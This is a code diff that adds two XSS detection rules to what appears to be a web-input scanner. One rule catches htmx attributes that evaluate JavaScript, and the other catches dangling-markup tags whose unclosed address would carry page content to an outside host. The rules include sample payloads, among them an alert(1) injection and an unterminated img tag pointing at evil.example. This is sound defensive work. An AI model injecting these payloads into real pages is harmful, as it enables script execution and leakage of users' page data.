@@ -198,4 +198,24 @@ export const xssFormRules: readonly Rule[] = [
       ],
     },
   ),
+  // A value that htmx evaluates.
+  pattern('xss/evaluated-values', /\bhx-(?:vals|headers|vars)\s{0,2}=\s{0,2}["']?\s{0,2}(?:js|javascript):/, {
+    score: 5,
+    quotable: true,
+    chars: CHAR.equals,
+    attacks: [`<div hx-vals='js:{x:alert(1)}'>`, 'hx-headers="javascript:{a:1}"'],
+    benign: [`<div hx-vals='{"a":1}'>`, 'hx-vals="js"'],
+  }),
+  // A picture whose address is not ended: all of the page behind it becomes a part of that.
+  pattern(
+    'xss/open-address',
+    /<(?:img|image|iframe|embed|input|video|audio|link|base)\s[^<>"']{0,80}\b(?:src|href|poster)\s{0,2}=\s{0,2}(["'])(?:https?:)?\/\/[^"'<>\s]{3,200}[?=]$/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.less,
+      attacks: ['<img src="//evil.example/?', "x'><img src='https://evil.example/a?q="],
+      benign: ['<img src="//cdn.example/x.png">', '<img src="https://', '<a href="//a.example/?'],
+    },
+  ),
 ]
